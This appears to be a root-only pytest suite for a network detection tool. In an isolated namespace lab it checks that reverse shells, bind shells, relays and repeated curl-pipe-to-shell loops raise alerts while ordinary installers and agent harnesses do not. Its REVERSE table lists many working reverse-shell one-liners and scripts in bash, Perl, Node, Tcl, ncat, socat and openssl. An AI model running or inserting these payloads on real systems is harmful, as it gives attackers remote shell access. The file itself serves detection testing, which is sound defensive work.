"""Shells at a distance, made in every way that is at hand, are told; what resembles them is not.

Everything is real, in a network of namespaces: who gives the orders is a host of it.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from agentwatch.demo.hosts import PYTHON, Host, Lab
from tests.lab import PROGRAMS, script
from tests.lab.telling import Watcher, write_rules
from tests.programs.shell_peer import (
    ASK_PORT,
    ASK_TLS_PORT,
    BOUND_PORT,
    ECHO_PORT,
    MODEL_PORT,
    PORT,
    SCRIPT_PORT,
    TLS_PORT,
)

pytestmark = [pytest.mark.root, pytest.mark.skipif(os.geteuid() != 0, reason="needs root")]


@dataclass(frozen=True)
class Peer:
    lab: Lab
    host: Host


@pytest.fixture(scope="module")
def peer() -> Iterator[Peer]:
    with Lab() as lab:
        certificate = lab.work / "certificate.pem"
        request = [
            "openssl",
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
        ]
        subprocess.run(
            [
                *request,
                "-days",
                "1",
                "-subj",
                "/CN=peer",
                "-keyout",
                certificate,
                "-out",
                lab.work / "public.pem",
            ],
            check=True,
            capture_output=True,
        )
        with certificate.open("a") as file:
            file.write((lab.work / "public.pem").read_text())
        program = str(PROGRAMS / "shell_peer.py")
        yield Peer(lab, lab.start("peer", [*PYTHON, program, str(certificate)]))


@pytest.fixture(scope="module")
def rules(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Alerts on every event of these kinds, each of its own."""
    shells, folder = "Behaviour: [reverse_shell, bind_shell], Stage: ", tmp_path_factory.mktemp("rules")
    return write_rules(
        folder,
        ("flow", shells + "likely"),
        ("flow", shells + "certain"),
        ("flow", "Behaviour: relay, Stage: shape"),
        ("flow", "Behaviour: relay, Stage: moving"),
        ("process_behaviour", "Kind: remote_script_loop"),
    )


@pytest.fixture
def watcher(peer: Peer, rules: Path, tmp_path: Path) -> Watcher:
    return Watcher(peer.lab, rules, tmp_path)


PERL = """
use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(S, sockaddr_in({port}, inet_aton("{host}"))) or die;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i");
"""
NODE = """
const net = require("net"), sh = require("child_process").spawn("/bin/sh", []);
const c = net.connect({port}, "{host}", () => {{
  c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); }});
c.on("end", () => process.exit(0)); sh.on("exit", () => c.end());
"""
TCL = """
set s [socket {host} {port}]; fconfigure $s -buffering line
while {{[gets $s line] >= 0 && $line ne "exit"}} {{ catch {{exec /bin/sh << $line}} out; puts $s $out }}
"""
REVERSE = {
    "bash >& /dev/tcp": (["bash", "-c", "bash -i >& /dev/tcp/{host}/{port} 0>&1"], "socket"),
    "bash exec 5<>": (
        ["bash", "-c", "exec 5<>/dev/tcp/{host}/{port}; cat <&5 | while read l; do $l 2>&5 >&5; done"],
        None,
    ),
    "sh <&196": (["bash", "-c", "exec 196<>/dev/tcp/{host}/{port}; sh <&196 >&196 2>&196"], "socket"),
    "exec in place": (["bash", "-c", "exec sh 0<>/dev/tcp/{host}/{port} 1>&0 2>&0"], "socket"),
    "python dup2": (script("holder", "dup2", "{host}", "{port}"), "socket"),
    "python dup2 and pty": (script("holder", "dup2-pty", "{host}", "{port}"), "pty"),
    "perl": (["perl", "-e", PERL], "socket"),
    "python recv and run": (script("holder", "loop", "{host}", "{port}"), None),
    "pipes, as ncat -e": (script("holder", "pipes", "{host}", "{port}"), "pipe"),
    "unix, as socat EXEC": (script("holder", "unix", "{host}", "{port}"), "unix"),
    "pty, as socat EXEC,pty": (script("holder", "pty", "{host}", "{port}"), "pty"),
    "node spawn": (["node", "-e", NODE], "unix"),
    "tclsh exec": (["tclsh", "SCRIPT", TCL], None),
    "mkfifo and openssl": (
        ["bash", "-c", "mkfifo f; sh -i <f 2>&1 | openssl s_client -quiet -connect {host}:{tls} >f"],
        "pipeline",
    ),
    "mkfifo, cat and openssl": (
        ["bash", "-c", "mkfifo f; cat f | sh -i 2>&1 | openssl s_client -quiet -connect {host}:{tls} >f"],
        "pipeline",
    ),
    "busybox nc -e": (["busybox", "nc", "{host}", "{port}", "-e", "/bin/sh"], "socket"),
    "ncat -e": (["ncat", "{host}", "{port}", "-e", "/bin/sh"], "pipe"),
    "ncat -c": (["ncat", "{host}", "{port}", "-c", "/bin/sh"], "pipe"),
    "ncat --ssl -e": (["ncat", "--ssl", "{host}", "{tls}", "-e", "/bin/sh"], "pipe"),
    "mkfifo and ncat": (
        ["ncat", "sh", "-c", "mkfifo f; cat f | /bin/sh -i 2>&1 | ncat {host} {port} >f"],
        "pipeline",
    ),
    "socat EXEC": (["socat", "TCP:{host}:{port}", "EXEC:/bin/sh"], "unix"),
    "socat EXEC,pty": (["socat", "TCP:{host}:{port}", "EXEC:/bin/sh,pty,stderr,setsid"], "pty"),
}


def prepared(command: list[str], peer: Peer, folder: Path) -> list[str]:
    """The command with addresses filled in; skipped where its program is not here."""
    program = command[0]
    if shutil.which(program) is None:
        pytest.skip(f"{program} is not installed")
    if command[:2] == ["ncat", "sh"]:  # needs ncat, runs sh
        command = command[1:]
    words = [
        word.format(host=peer.host.ipv4, port=PORT, tls=TLS_PORT, page=SCRIPT_PORT, model=MODEL_PORT)
        if any(name in word for name in ("{host}", "{port}", "{tls}", "{page}", "{model}"))
        else word
        for word in command
    ]
    if words[1:2] == ["SCRIPT"]:
        path = folder / "script"
        path.write_text(words[2])
        words[1:] = [str(path)]
    return words


@pytest.mark.parametrize("name", REVERSE)
def test_reverse_shells_are_certain(peer: Peer, watcher: Watcher, tmp_path: Path, name: str) -> None:
    command, via = REVERSE[name]
    told = watcher(prepared(command, peer, tmp_path))
    events = [alert["event"] for alert in told]
    assert [event["Behaviour"] for event in events] == ["reverse_shell"] * len(events)
    assert events[-1]["Stage"] == "certain"
    assert via in (None, events[-1]["Via"])
    port = TLS_PORT if "ssl" in name else PORT
    assert all(alert["flow"]["remote"] == f"{peer.host.ipv4}:{port}" for alert in told)


@pytest.mark.parametrize(("how", "via"), [("bind", "socket"), ("bind-pipes", "pipe"), ("bind-pty", "pty")])
def test_bind_shells_are_certain(peer: Peer, watcher: Watcher, how: str, via: str) -> None:
    told = watcher(script("holder", how, peer.host.ipv4, BOUND_PORT))
    assert [alert["event"]["Behaviour"] for alert in told] == ["bind_shell"] * len(told)
    assert told[-1]["event"]["Stage"] == "certain"
    assert told[-1]["event"]["Via"] == via
    assert told[-1]["flow"]["local"].endswith(f":{BOUND_PORT}")


def test_a_script_taken_from_afar_again_and_again_is_told_once(peer: Peer, watcher: Watcher) -> None:
    page = f"http://{peer.host.ipv4}:{SCRIPT_PORT}/c"
    told = watcher(["sh", "-c", f"for n in 1 2 3 4 5; do curl -s {page}?$n | sh; done"])
    (alert,) = told
    assert (alert["event"]["Kind"], alert["event"]["Rounds"]) == ("remote_script_loop", 3)
    assert alert["flow"]["remote"] == f"{peer.host.ipv4}:{SCRIPT_PORT}"


HARNESS = script("harness")
NODE_HARNESS = """
const tls = require("tls"), run = require("child_process");
const shell = run.spawn("/bin/bash", []); shell.stdout.resume();
let turns = 0;
const model = tls.connect({{port: {model}, host: "{host}", rejectUnauthorized: false}});
model.write("go\\n");
model.on("data", data => {{
  if (turns++ == 8) process.exit(0);
  shell.stdin.write("uname -a\\n");
  run.exec(JSON.parse(data).command, (error, out) => model.write(JSON.stringify(out) + "\\n"));
}});
"""
HONEST = {
    "an installer": ["sh", "-c", "curl -s http://{host}:{page}/install.sh | sh"],
    "three installers": ["sh", "-c", "for n in a b c; do curl -s http://{host}:{page}/$n.sh | sh; done"],
    "a probe": [
        "bash",
        "-c",
        "timeout 1 bash -c </dev/tcp/{host}/{page}; timeout 1 bash -c 'true </dev/tcp/{host}/{page}'",
    ],
    "a page read by bash": [
        "bash",
        "-c",
        r"exec 3<>/dev/tcp/{host}/{page}; printf 'GET / HTTP/1.0\r\n\r\n' >&3; cat <&3; id; uname -a",
    ],
    "a harness with pipes": [*HARNESS, "pipes", "{host}", "{model}"],
    "a harness with a terminal": [*HARNESS, "pty", "{host}", "{model}"],
    "a harness with one shell a command": [*HARNESS, "commands", "{host}", "{model}"],
    "a harness with a queue in Redis": [*HARNESS, "redis", "{host}", "{model}"],
    "a coding agent in node": ["node", "-e", NODE_HARNESS],
    "a tool server over stdio": [*HARNESS, "tools", "{host}", "{model}"],
    "a program run through a pipe": [
        "sh",
        "-c",
        "curl -s http://{host}:{page}/x | python3 -c 'import sys; sys.stdin.read()' | cat",
    ],
    "make": ["sh", "-c", "printf 'all:\\n\\tid | cat\\n\\tuname -a | wc -c\\n' | make -s -f -"],
    "tmux": [
        "sh",
        "-c",
        "tmux -L aw-$$ -f /dev/null new-session -d 'id; uname -a'; tmux -L aw-$$ kill-server; true",
    ],
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_work_is_left_alone(peer: Peer, watcher: Watcher, tmp_path: Path, name: str) -> None:
    told = watcher(prepared(HONEST[name], peer, tmp_path), code=None if name == "a probe" else 0)
    assert [alert["event"] for alert in told] == []


RELAYS = {"relay": ASK_PORT, "relay-late": ASK_PORT, "relay-tls": ASK_TLS_PORT, "relay-unix": ASK_PORT}


@pytest.mark.parametrize("how", RELAYS)
def test_relays_are_told(peer: Peer, watcher: Watcher, how: str) -> None:
    told = watcher(script("joins", how, peer.host.ipv4, RELAYS[how]))
    events = [alert["event"] for alert in told]
    assert [event["Behaviour"] for event in events] == ["relay"] * len(events)
    assert events[-1]["Stage"] == ("shape" if how == "relay-unix" else "moving")
    assert events[-1]["LocalTarget"].startswith("/" if how == "relay-unix" else "127.0.0.1:")
    assert all(alert["flow"]["remote"] == f"{peer.host.ipv4}:{RELAYS[how]}" for alert in told)


@pytest.mark.parametrize(
    ("how", "port"), [("proxy", SCRIPT_PORT), ("client", SCRIPT_PORT), ("worker", ECHO_PORT)]
)
def test_two_connections_are_no_relay(peer: Peer, watcher: Watcher, how: str, port: int) -> None:
    assert watcher(script("joins", how, peer.host.ipv4, port)) == []
